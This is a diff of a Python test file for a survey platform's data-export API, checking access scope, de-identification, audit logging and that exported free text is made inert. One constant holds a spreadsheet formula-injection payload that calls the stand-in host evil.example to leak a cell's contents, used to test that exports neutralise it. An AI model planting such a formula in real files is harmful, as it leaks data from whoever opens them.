@@ -15,20 +15,20 @@ from sqlalchemy.engine import Engine
 from sqlmodel import Session, select
 
 from api.exports.cells import BOM, Table, csv_chunks, inert
-from api.exports.responses import pseudonym
+from api.exports.responses import pseudonym, response_columns, response_rows
 from api.settings import Settings
-from survey.models import AuditEvent, Response
+from survey.models import AuditEvent, Response, Wave
 from survey.questionnaire import load_default
 from survey.responses import submit_response
 from tests.api.staff import bearer, seed_staff, store_snapshot
-from tests.factories import complete_answers, new_client_id
+from tests.factories import complete_answers, new_client_id, seed_minimal
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点我领奖")'
 BIG_GRID, SMALL_GRID = "幸福网格", "三号院"
 
 
 @pytest.fixture
-def engine(client: TestClient) -> Engine:
+def app_engine(client: TestClient) -> Engine:
     engine: Engine = client.app.state.engine  # type: ignore[attr-defined]
     seed_staff(engine)
     store_snapshot(engine)
@@ -89,8 +89,8 @@ def test_csv_is_written_in_chunks_with_a_bom() -> None:
     assert text.splitlines() == ["a,b", "0,'=0", "1,'=1", "2,'=2", "3,'=3", "4,'=4"]
 
 
-def test_rankings_csv_and_xlsx_match_the_snapshot(client: TestClient, engine: Engine) -> None:
-    headers = as_user(engine, "district")
+def test_rankings_csv_and_xlsx_match_the_snapshot(client: TestClient, app_engine: Engine) -> None:
+    headers = as_user(app_engine, "district")
     expected = client.get("/api/v1/waves/W1/rankings", headers=headers).json()["communities"]
     rows = read_csv(client.get("/api/v1/waves/W1/exports/rankings.csv", headers=headers))
     assert [r["社区代码 community code"] for r in rows] == [e["community"] for e in expected]
@@ -122,19 +122,21 @@ def test_rankings_csv_and_xlsx_match_the_snapshot(client: TestClient, engine: En
     ("who", "codes"), [("street", ["C1", "C2"]), ("other_street", ["C3"]), ("community", ["C1"])]
 )
 def test_ranking_exports_keep_to_the_scope(
-    client: TestClient, engine: Engine, who: str, codes: list[str]
+    client: TestClient, app_engine: Engine, who: str, codes: list[str]
 ) -> None:
     rows = read_csv(
-        client.get("/api/v1/waves/W1/exports/rankings.csv", headers=as_user(engine, who))
+        client.get("/api/v1/waves/W1/exports/rankings.csv", headers=as_user(app_engine, who))
     )
     assert [r["社区代码 community code"] for r in rows] == codes
 
 
-def test_scorecards_match_the_snapshot_and_the_scope(client: TestClient, engine: Engine) -> None:
+def test_scorecards_match_the_snapshot_and_the_scope(
+    client: TestClient, app_engine: Engine
+) -> None:
     q = load_default()
     n_indicators = 2 + len(q.dimensions) + 18 + len(q.main_items())
     rows = read_csv(
-        client.get("/api/v1/waves/W1/exports/scorecards.csv", headers=as_user(engine, "street"))
+        client.get("/api/v1/waves/W1/exports/scorecards.csv", headers=as_user(app_engine, "street"))
     )
     assert {r["社区代码 community code"] for r in rows} == {"C1", "C2"}
     c1 = [r for r in rows if r["社区代码 community code"] == "C1"]
@@ -155,22 +157,25 @@ def test_scorecards_match_the_snapshot_and_the_scope(client: TestClient, engine:
     assert len(c2) == 1 and c2[0]["得分 score (0–100)"] == "" and c2[0]["备注 note"] == "样本不足"
 
     mine = read_xlsx(
-        client.get("/api/v1/waves/W1/exports/scorecards.xlsx", headers=as_user(engine, "community"))
+        client.get(
+            "/api/v1/waves/W1/exports/scorecards.xlsx", headers=as_user(app_engine, "community")
+        )
     )[1]
     assert {r[0] for r in mine} == {"C1"} and len(mine) == n_indicators
     for who in ("community", "street"):
         hidden = client.get(
-            "/api/v1/waves/W1/exports/scorecards.csv?community=C3", headers=as_user(engine, who)
+            "/api/v1/waves/W1/exports/scorecards.csv?community=C3", headers=as_user(app_engine, who)
         )
         assert hidden.status_code == 404  # out of scope looks like "does not exist"
     missing = client.get(
-        "/api/v1/waves/W1/exports/scorecards.csv?community=NOPE", headers=as_user(engine, "admin")
+        "/api/v1/waves/W1/exports/scorecards.csv?community=NOPE",
+        headers=as_user(app_engine, "admin"),
     )
     assert missing.status_code == 404 and hidden.json() == {"detail": "no community with code 'C3'"}
     one = read_csv(
         client.get(
             "/api/v1/waves/W1/exports/scorecards.csv?community=C3",
-            headers=as_user(engine, "other_street"),
+            headers=as_user(app_engine, "other_street"),
         )
     )
     assert {r["社区代码 community code"] for r in one} == {"C3"}
@@ -183,12 +188,12 @@ def stored_rows(engine: Engine, settings: Settings) -> dict[str, Response]:
 
 
 def test_response_csv_is_de_identified_and_faithful(
-    client: TestClient, engine: Engine, settings: Settings
+    client: TestClient, app_engine: Engine, settings: Settings
 ) -> None:
-    submit_answers(engine)
-    stored = stored_rows(engine, settings)
+    submit_answers(app_engine)
+    stored = stored_rows(app_engine, settings)
     response = client.get(
-        "/api/v1/waves/W1/exports/responses.csv", headers=as_user(engine, "researcher")
+        "/api/v1/waves/W1/exports/responses.csv", headers=as_user(app_engine, "researcher")
     )
     rows = read_csv(response)
     assert len(rows) == 13 and set(stored) == {r["rid"] for r in rows}
@@ -208,7 +213,7 @@ def test_response_csv_is_de_identified_and_faithful(
         assert row["P1_" + record.answers["P1"][0]] == "1"
         expected_grid = BIG_GRID if record.answers["grid"] == BIG_GRID else ""
         assert row["grid"] == expected_grid  # fewer than 10 in the small grid: withheld
-    events = [e for e in _events(engine) if e.action == "export_responses"]
+    events = [e for e in _events(app_engine) if e.action == "export_responses"]
     assert [(e.actor, e.detail["format"]) for e in events] == [("researcher", "csv")]
 
 
@@ -217,16 +222,16 @@ def _events(engine: Engine) -> list[AuditEvent]:
         return list(session.exec(select(AuditEvent)).all())
 
 
-def test_free_text_only_for_researchers_and_inert(client: TestClient, engine: Engine) -> None:
-    submit_answers(engine)
+def test_free_text_only_for_researchers_and_inert(client: TestClient, app_engine: Engine) -> None:
+    submit_answers(app_engine)
     url = "/api/v1/waves/W1/exports/responses.{}?include_text=1"
-    assert client.get(url.format("csv"), headers=as_user(engine, "admin")).status_code == 403
-    rows = read_csv(client.get(url.format("csv"), headers=as_user(engine, "researcher")))
+    assert client.get(url.format("csv"), headers=as_user(app_engine, "admin")).status_code == 403
+    rows = read_csv(client.get(url.format("csv"), headers=as_user(app_engine, "researcher")))
     texts = sorted(r["P2"] for r in rows if r["P2"])
     assert texts == sorted(["'" + EVIL, "楼道灯坏了三个月"])
 
     header, data, sheet = read_xlsx(
-        client.get(url.format("xlsx"), headers=as_user(engine, "researcher"))
+        client.get(url.format("xlsx"), headers=as_user(app_engine, "researcher"))
     )
     column = header.index("P2")
     cells = [row[column] for row in data if row[column]]
@@ -239,27 +244,27 @@ def test_free_text_only_for_researchers_and_inert(client: TestClient, engine: En
 
 @pytest.mark.parametrize("who", ["district", "street", "community"])
 def test_officials_cannot_download_response_data(
-    client: TestClient, engine: Engine, who: str
+    client: TestClient, app_engine: Engine, who: str
 ) -> None:
     for fmt in ("csv", "xlsx", "sav"):
         url = f"/api/v1/waves/W1/exports/responses.{fmt}"
-        assert client.get(url, headers=as_user(engine, who)).status_code == 403
+        assert client.get(url, headers=as_user(app_engine, who)).status_code == 403
     assert client.get("/api/v1/waves/W1/exports/responses.csv").status_code == 401
     assert (
         client.get(
-            "/api/v1/waves/W1/exports/responses.pdf", headers=as_user(engine, "researcher")
+            "/api/v1/waves/W1/exports/responses.pdf", headers=as_user(app_engine, "researcher")
         ).status_code
         == 422
     )
 
 
 def test_spss_file_has_labels_and_the_answers(
-    client: TestClient, engine: Engine, settings: Settings, tmp_path: Any
+    client: TestClient, app_engine: Engine, settings: Settings, tmp_path: Any
 ) -> None:
-    submit_answers(engine)
-    stored = stored_rows(engine, settings)
+    submit_answers(app_engine)
+    stored = stored_rows(app_engine, settings)
     response = client.get(
-        "/api/v1/waves/W1/exports/responses.sav", headers=as_user(engine, "admin")
+        "/api/v1/waves/W1/exports/responses.sav", headers=as_user(app_engine, "admin")
     )
     assert response.status_code == 200, response.text
     path = tmp_path / "w1.sav"
@@ -282,9 +287,9 @@ def test_spss_file_has_labels_and_the_answers(
         assert row["grid"] == (BIG_GRID if record.answers["grid"] == BIG_GRID else "")
 
 
-def test_codebook_describes_every_exported_column(client: TestClient, engine: Engine) -> None:
-    submit_answers(engine)
-    researcher = as_user(engine, "researcher")
+def test_codebook_describes_every_exported_column(client: TestClient, app_engine: Engine) -> None:
+    submit_answers(app_engine)
+    researcher = as_user(app_engine, "researcher")
     data = read_csv(client.get("/api/v1/waves/W1/exports/responses.csv", headers=researcher))
     book = read_csv(client.get("/api/v1/waves/W1/exports/codebook.csv", headers=researcher))
     assert [r["变量 variable"] for r in book] == list(data[0])
@@ -298,3 +303,18 @@ def test_codebook_describes_every_exported_column(client: TestClient, engine: En
         client.get("/api/v1/waves/W1/exports/codebook.xlsx?include_text=1", headers=researcher)
     )
     assert "P2" in [r[0] for r in rows] and header[0] == "变量 variable"
+
+
+def test_response_rows_on_sqlite_and_postgresql(engine: Engine) -> None:
+    """The streaming query and the grid count (a JSON path in SQL) on both databases."""
+    seed_minimal(engine)
+    submit_answers(engine)
+    q = load_default()
+    with Session(engine) as session:
+        wave = session.exec(select(Wave)).one()
+        ids = [r.id for r in session.exec(select(Response)).all()]
+    columns = response_columns(q, include_text=True)
+    rows = list(response_rows(engine, wave=wave, columns=columns, secret="k"))
+    assert sorted(r[0] for r in rows) == sorted(pseudonym("k", "W1", i or 0) for i in ids)
+    grid = [c.name for c in columns].index("grid")
+    assert sorted(r[grid] or "" for r in rows) == [""] * 3 + [BIG_GRID] * 10
